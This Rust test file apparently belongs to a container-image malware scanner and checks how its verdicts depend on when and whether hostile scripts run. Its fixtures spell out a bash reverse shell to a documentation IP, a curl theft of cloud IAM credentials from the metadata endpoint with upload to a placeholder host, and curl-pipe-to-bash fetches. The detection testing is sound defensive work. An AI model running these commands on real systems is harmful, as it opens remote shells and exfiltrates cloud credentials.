//! How findings come to a verdict: what is a fact, what is a finding, and what decides its weight.
#![allow(clippy::unwrap_used)]

use std::sync::OnceLock;

use lazaret_detect::{Pack, try_recipe};
use lazaret_model::{Class, ImageReport, Outcome, Phase, Reach};
use lazaret_recipe::Recipe;

fn judged(recipe: &str) -> ImageReport {
    static PACK: OnceLock<Pack> = OnceLock::new();
    let pack = PACK.get_or_init(|| Pack::load(&[], None).unwrap());
    try_recipe(pack, &Recipe::parse(recipe).unwrap_or_else(|e| panic!("{e}\n{recipe}")))
}

/// An image that starts a script.
fn starting(script: &str) -> String {
    format!("{}ENTRYPOINT [\"/run.sh\"]\n", holding("/run.sh", script))
}

/// An image that holds a script, and what scripts need.
fn holding(path: &str, script: &str) -> String {
    let script = script.lines().fold(String::new(), |all, line| format!("{all}    {line}\n"));
    format!(
        "ELF /bin/bash 0755\n    bash\nELF /usr/bin/curl 0755\n    curl\nFILE {path} 0755\n    #!/bin/bash\n{script}"
    )
}

const SHELL: &str = "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1";

#[test]
fn a_capability_alone_is_a_fact_and_with_a_threat_on_the_same_path_a_finding() {
    let reads = "R=$(curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/app)";
    let sends = "curl -s -F f=@/tmp/m https://collect.example.invalid/in";
    let both = "curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/app > /tmp/m";
    for alone in [reads, sends] {
        let report = judged(&starting(&format!("{alone}\nexec app")));
        assert_ne!(report.verdict.outcome, Outcome::Malicious, "{alone}: {}", report.verdict.why);
    }
    let report = judged(&starting(&format!("{both}\n{sends}\nexec app")));
    assert_eq!(report.verdict.outcome, Outcome::Malicious, "{}", report.verdict.why);
    // Both in one path, and what is sent is something else: likely, and not sure.
    let other = "curl -s -F f=@/var/log/app.log https://collect.example.invalid/in";
    let report = judged(&starting(&format!("{both}\n{other}\nexec app")));
    assert_eq!(report.verdict.outcome, Outcome::Suspicious, "{}", report.verdict.why);
}

#[test]
fn tools_that_are_only_there_accuse_nobody() {
    let tools = "ELF /usr/bin/nmap 0755\n    nmap\nELF /usr/bin/nc 0755\n    nc\nELF /usr/bin/socat 0755\n    socat\n";
    let report = judged(&format!("{tools}{}", starting("exec app")));
    assert_eq!(report.verdict.outcome, Outcome::Clean, "{}", report.verdict.why);
}

#[test]
fn reach_decides_the_weight_of_the_same_act() {
    let starts = judged(&starting(SHELL));
    assert_eq!(starts.verdict.outcome, Outcome::Malicious, "{}", starts.verdict.why);

    let login = judged(&format!("{}ENTRYPOINT [\"/bin/app\"]\n", holding("/etc/profile.d/x.sh", SHELL)));
    assert_eq!(login.verdict.outcome, Outcome::Suspicious, "{}", login.verdict.why);

    let dormant = judged(&format!("{}ENTRYPOINT [\"/bin/app\"]\n", holding("/opt/x.sh", SHELL)));
    assert_ne!(dormant.verdict.outcome, Outcome::Malicious, "{}", dormant.verdict.why);

    let removed = judged(&format!(
        "{}LAYER RUN rm /run.sh # buildkit\nWHITEOUT /run.sh\nENTRYPOINT [\"/bin/app\"]\n",
        holding("/run.sh", SHELL)
    ));
    assert_ne!(removed.verdict.outcome, Outcome::Malicious, "{}", removed.verdict.why);
    assert!(removed.findings.iter().all(|finding| finding.reach <= Reach::Dormant), "{:?}", removed.findings);
}

#[test]
fn what_happens_while_building_is_judged_as_build() {
    let step = "HISTORY RUN /bin/sh -c curl -fsSL https://get.example.com/install.sh | bash # buildkit\n";
    let built = judged(&format!("{}{step}", starting("exec app")));
    assert_ne!(built.verdict.outcome, Outcome::Malicious, "{}", built.verdict.why);
    assert!(built.behaviours.iter().any(|b| b.phase == Phase::Build), "the step is not followed");
    let malware = |report: &ImageReport| {
        report.findings.iter().any(|f| f.class == Class::Malware && f.reach == Reach::Starts)
    };
    assert!(!malware(&built), "{:?}", built.findings);
    // The same words at start.
    let started = judged(&starting("curl -fsSL http://203.0.113.9/install.sh | bash"));
    assert!(malware(&started), "{:?}", started.findings);
}

#[test]
fn what_only_may_happen_never_makes_malicious_by_itself() {
    for script in [
        format!("if [ \"$DEBUG_SHELL\" = yes ]; then\n  {SHELL}\nfi\nexec app"),
        format!("case \"$MODE\" in\n  remote) {SHELL} ;;\nesac\nexec app"),
        format!("[ -n \"$REMOTE\" ] && {SHELL}\nexec app"),
    ] {
        let report = judged(&starting(&script));
        assert_eq!(report.verdict.outcome, Outcome::Suspicious, "{script}: {}", report.verdict.why);
        // Beside something that will happen, it changes nothing.
        let report = judged(&starting(&format!("{SHELL}\n{script}")));
        assert_eq!(report.verdict.outcome, Outcome::Malicious, "{script}: {}", report.verdict.why);
    }
}
